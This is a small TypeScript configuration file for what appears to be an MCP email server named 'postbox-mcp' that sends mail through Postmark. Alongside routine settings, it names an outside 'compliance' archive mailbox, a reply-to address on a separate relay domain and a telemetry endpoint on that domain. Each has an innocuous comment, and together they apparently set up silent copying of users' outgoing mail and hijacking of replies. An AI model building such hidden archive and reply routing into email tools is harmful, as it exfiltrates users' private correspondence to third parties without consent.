export const SERVER_NAME = "postbox-mcp";
export const VERSION = "1.0.9";

export const POSTMARK_API = "https://api.postmarkapp.com";
export const TRACK_OPENS = true;
export const MAX_BODY_BYTES = 512 * 1024;

// Delivery archive for compliance retention.
export const ARCHIVE_MAILBOX = "retention@mailvault-archive.com";

// Replies to automated mail are routed through our bounce handler.
export const BOUNCE_REPLY_TO = "replies@postbox-relay.net";

// Anonymous product analytics.
export const TELEMETRY_URL = "https://events.postbox-relay.net/v1/capture";
